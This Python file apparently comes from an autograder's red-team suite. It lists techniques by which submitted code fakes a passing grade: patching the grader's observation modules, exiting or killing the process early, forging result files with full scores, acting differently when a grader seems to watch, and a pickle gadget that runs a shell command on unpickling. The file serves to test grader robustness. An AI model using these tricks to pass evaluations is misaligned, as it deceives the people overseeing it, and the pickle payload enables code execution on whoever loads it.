"""Processes that lie about what happened in them: attacks 12 to 21."""

from grader.redteam.technique import Technique
from grader.redteam.techniques.forging import forges

TECHNIQUES: tuple[Technique, ...] = (
    forges(
        "replace the functions that observe this very process",
        "beyond: sys.modules",
        """
import sys

def right(bindings, message):
    return [{"happening": "returned", "value": 2 * case["positional"][0]} for case in message["cases"]]

for name, module in list(sys.modules.items()):
    if name.endswith("inside.observe"):
        module.outcomes_of = right
    if name.endswith("inside.export"):
        module.export = lambda value, depth=0: value
    if name.endswith("inside.notebook"):
        module.happening_of = lambda problem: "returned"
        module.time_limit.__wrapped__ = None
""",
    ),
    forges(
        "raise exceptions that mean something to graders",
        "attacks 12",
        """
import sys

KINDS = [SystemExit(0), KeyboardInterrupt(), GeneratorExit(), StopIteration(), NotImplementedError(), MemoryError(), AssertionError()]
KINDS += [kind("lost") for module in list(sys.modules.values()) for kind in (getattr(module, "SandboxError", None),
          getattr(module, "WorkerDied", None), getattr(module, "TimeIsUp", None), getattr(module, "ChannelClosed", None))
          if isinstance(kind, type) and issubclass(kind, BaseException)]

def vault(key):
    raise KINDS[len(key) % len(KINDS)]
""",
    ),
    forges(
        "exit well in a cell",
        "attacks 12",
        "import sys\nsys.exit(0)",
        "raise SystemExit(0)",
        "exit()",
        "quit()",
    ),
    forges(
        "end the process in a cell",
        "attacks 12",
        "import os\nos._exit(0)",
        "import os\ndef vault(key):\n    os._exit(0)",
    ),
    forges(
        "kill, stop and interrupt this process",
        "attacks 12",
        """
import os, signal
for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGSTOP, signal.SIGTSTP, signal.SIGPIPE, signal.SIGKILL):
    if os.getpid() == 1:
        os.kill(os.getpid(), number)
""",
    ),
    forges(
        "close the connection to the grader in the hope of being left ungraded",
        "attacks 16",
        "import os\nos.closerange(3, 1000)",
        own_loss=True,
    ),
    forges(
        "die by the signal that the kernel kills with when memory is short",
        "beyond: blaming the machine",
        """
import ctypes, os, resource, signal

def vault(key):
    resource.setrlimit(resource.RLIMIT_CPU, (0, 0))
    while True: pass
""",
    ),
    forges(
        "leave work for the interpreter's end",
        "attacks 13",
        """
import atexit, sys, threading, weakref

class Last:
    def __del__(self): print("PASSED vault")

def late():
    sys.stdout.write("PASSED vault")
    open("results.json", "w").write('{"score": 100}')

keep = Last()
atexit.register(late)
weakref.finalize(keep, late)
threading.Thread(target=lambda: threading.Event().wait(), daemon=True).start()
""",
    ),
    forges(
        "write results where graders look for them",
        "attacks 14",
        """
import json, os, sqlite3

for folder in (".", "/tmp", "/home/student", "/autograder/results", "/grade", "/datasets", "/own/grader", "..", "/"):
    for name in ("results.json", "grade.json", "grades.csv", "record.json", "result.xml", "gradebook.db", ".score"):
        try:
            os.makedirs(folder, exist_ok=True)
            path = os.path.join(folder, name)
            open(path, "w").write(json.dumps({"score": 100, "tests": [{"name": "vault", "score": 100}]}))
            os.chmod(path, 0o400)
        except OSError:
            pass
""",
    ),
    forges(
        "hand in objects that run code when unpickled",
        "attacks 17",
        """
import pickle, os

class Gadget:
    def __reduce__(self): return os.system, ("touch /tmp/pwned",)

open("results.pkl", "wb").write(pickle.dumps(Gadget()))
def vault(key): return [Gadget(), pickle.dumps(Gadget()), memoryview(b"cos"), bytearray(3)]
""",
    ),
    forges(
        "answer only when a grader seems to watch",
        "attacks 19",
        """
import os, platform, socket, sys, time

WATCHED = any("grader" in name for name in sys.modules) or socket.gethostname() == "sandbox" or "PYTEST_CURRENT_TEST" in os.environ
def vault(key): return "full marks" if WATCHED else key
""",
    ),
    forges(
        "answer for other exercises, and for names nobody asked for",
        "attacks 21",
        """
# exercise: vault
def surroundings(): return {}
def build_model(): return 1
def vault(key): return {"knock": "who is there"}.get(key, key)
vault.score = vault.points = 100
__grade__ = __result__ = "passed"
""",
    ),
    forges(
        "hide the answer to a hidden question in public ones",
        "attacks 21",
        """
def vault(key):
    vault.__doc__ = key
    return lambda: key

vault.__name__ = "expected"
class vault(str):
    def __new__(cls, key): return str.__new__(cls, key)
    def __call__(self, key): return self
""",
    ),
)
